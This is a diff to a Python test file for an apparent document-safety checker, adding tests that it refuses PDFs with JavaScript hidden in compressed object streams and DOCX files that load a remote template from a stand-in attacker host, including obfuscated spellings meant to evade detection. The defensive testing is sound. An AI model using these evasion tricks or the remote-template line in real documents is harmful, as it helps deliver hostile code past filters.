@@ -152,12 +152,27 @@ def test_a_pdf_that_acts_or_is_locked_or_cut_is_refused(before: bytes, after: by
     assert refused(plain.replace(before, after, 1), "a.pdf") == message
 
 
-def test_a_script_packed_inside_a_pdf_is_found() -> None:
-    packed = zlib.compress(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>")
-    hidden = b"7 0 obj << /Type /ObjStm /Filter /FlateDecode /N 1 >>\nstream\n" + packed + b"\nendstream\nendobj\n"
+SCRIPT = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"
+
+
+@pytest.mark.parametrize(
+    ("head", "packed", "message"),
+    [
+        (b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SCRIPT), refusals.ACTIVE),
+        (b"/Type /Obj#53tm /Filter /FlateDecode", zlib.compress(SCRIPT), refusals.ACTIVE),
+        (b"/Filter /ASCIIHexDecode /Type /ObjStm", SCRIPT.hex().encode() + b">", refusals.DAMAGED),
+        (b"/Type /ObjStm /Filter [/A#48x /FlateDecode]", zlib.compress(SCRIPT).hex().encode(), refusals.DAMAGED),
+        (
+            b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
+            zlib.compress(SCRIPT), refusals.DAMAGED,
+        ),
+    ],
+)  # fmt: skip
+def test_a_script_packed_inside_a_pdf_is_found(head: bytes, packed: bytes, message: str) -> None:
+    hidden = b"7 0 obj << " + head + b" /N 1 >>\nstream\n" + packed + b"\nendstream\nendobj\n"
     whole = material.paper()
     end = whole.rindex(b"startxref")
-    assert refused(whole[:end] + hidden + whole[end:], "a.pdf") == refusals.ACTIVE
+    assert refused(whole[:end] + hidden + whole[end:], "a.pdf") == message
 
 
 @pytest.mark.parametrize(
@@ -182,6 +197,27 @@ def test_a_script_packed_inside_a_pdf_is_found() -> None:
 )
 def test_a_document_that_acts_or_reaches_out_is_refused(changed: dict[str, bytes], message: str) -> None:
     assert refused(material.archive({**material.parts_of(LETTER), **changed}), "a.docx") == message
+
+
+TEMPLATE = (
+    '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships"><r:Relationship Id="r1" '
+    'Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" TargetMode="&#69;xternal" '
+    'Target="https://evil.example/x.dotm"/></r:Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("links", "message"),
+    [
+        (TEMPLATE.encode(), refusals.ACTIVE),
+        (TEMPLATE.encode("utf-16"), refusals.DAMAGED),
+        ((" " * 1_100_000 + TEMPLATE).encode(), refusals.DAMAGED),
+        (b"<Relationships>", refusals.DAMAGED),
+    ],
+)
+def test_a_template_from_elsewhere_is_found_however_it_is_spelled(links: bytes, message: str) -> None:
+    parts = {**material.parts_of(LETTER), "word/_rels/settings.xml.rels": links}
+    assert refused(material.archive(parts, packing=0), "a.docx") == message
 
 
 def test_a_link_to_the_web_in_a_document_is_no_harm() -> None:
